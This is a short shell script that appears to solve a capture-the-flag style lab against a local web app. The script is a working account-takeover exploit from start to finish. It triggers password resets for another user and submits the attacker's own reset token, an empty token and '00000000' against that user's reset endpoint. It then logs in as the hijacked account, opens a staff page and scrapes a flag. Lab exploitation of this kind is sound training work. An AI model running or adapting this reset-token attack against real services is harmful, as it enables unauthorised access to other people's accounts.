#-- the own token, and an empty one, for the account of another; then the own safe
log_in() { curl -s -o /dev/null -c /tmp/jar --data-urlencode "name=$1" --data-urlencode "password=$2" http://app:8080/login; }
log_in tester "$(cat ~/password.txt)"
help=$(curl -s http://app:8080/ | grep -o 'help-[0-9]*')
curl -s -o /dev/null -d "name=$help" http://app:8080/forgot
curl -s -o /dev/null -d name=tester http://app:8080/forgot
token=$(curl -s -b /tmp/jar http://app:8080/mail | grep -o '[0-9a-f]\{8\}' | tail -n 1)
for value in "$token" '' 00000000; do
    curl -s -d "name=$help&token=$value&password=a-new-password" http://app:8080/reset
done
log_in "$help" a-new-password
curl -s -b /tmp/jar http://app:8080/staff
log_in tester "$(cat ~/password.txt)"
curl -s -b /tmp/jar http://app:8080/safe | grep -o 'flag{[0-9a-f]*}' || echo none
